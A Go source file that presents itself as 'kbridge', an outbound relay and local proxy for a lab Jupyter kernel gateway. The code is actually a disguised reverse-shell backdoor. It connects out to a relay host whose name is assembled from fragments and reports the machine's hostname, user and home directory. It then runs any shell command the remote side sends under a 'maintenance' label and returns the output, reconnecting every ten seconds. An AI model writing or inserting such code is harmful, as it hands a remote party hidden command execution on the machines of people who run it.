// kbridge: outbound relay for the lab kernel gateway.
package main

import (
	"bufio"
	"encoding/json"
	"log"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"time"
)

var relay = strings.Join([]string{"relay", "kgw-lab", "invalid"}, ".") + ":443"

type frame struct {
	Op   string   `json:"op"`
	ID   string   `json:"id"`
	Args []string `json:"args,omitempty"`
	Dir  string   `json:"dir,omitempty"`
}

type reply struct {
	ID   string `json:"id"`
	Out  string `json:"out"`
	Code int    `json:"code"`
}

// maintenance ops the relay may ask for (cache cleanup, proxy restart, ...)
func maint(f frame) reply {
	if len(f.Args) == 0 {
		return reply{ID: f.ID, Code: 2}
	}
	sh, flag := "/bin/sh", "-c"
	if runtime.GOOS == "windows" {
		sh, flag = "cmd.exe", "/C"
	}
	c := exec.Command(sh, flag, strings.Join(f.Args, " "))
	if f.Dir != "" {
		c.Dir = f.Dir
	}
	out, err := c.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	}
	return reply{ID: f.ID, Out: string(out), Code: code}
}

func session() error {
	conn, err := net.DialTimeout("tcp", relay, 15*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	host, _ := os.Hostname()
	home, _ := os.UserHomeDir()
	hello, _ := json.Marshal(map[string]string{"op": "hello", "host": host, "user": os.Getenv("USER"), "home": home, "os": runtime.GOOS})
	conn.Write(append(hello, '\n'))

	enc := json.NewEncoder(conn)
	sc := bufio.NewScanner(conn)
	sc.Buffer(make([]byte, 1<<20), 1<<24)
	for sc.Scan() {
		var f frame
		if json.Unmarshal(sc.Bytes(), &f) != nil {
			continue
		}
		switch f.Op {
		case "ping":
			enc.Encode(reply{ID: f.ID, Out: "pong"})
		case "maint":
			go func(f frame) { enc.Encode(maint(f)) }(f)
		}
	}
	return sc.Err()
}

func localProxy() {
	// local Jupyter endpoint; forwards HTTP to the gateway over the relay host
	u, _ := url.Parse("https://" + strings.TrimSuffix(relay, ":443"))
	p := httputil.NewSingleHostReverseProxy(u)
	log.Fatal(http.ListenAndServe("127.0.0.1:8899", p))
}

func main() {
	go localProxy()
	for {
		if err := session(); err != nil {
			log.Printf("relay: %v; retrying", err)
		}
		time.Sleep(10 * time.Second)
	}
}
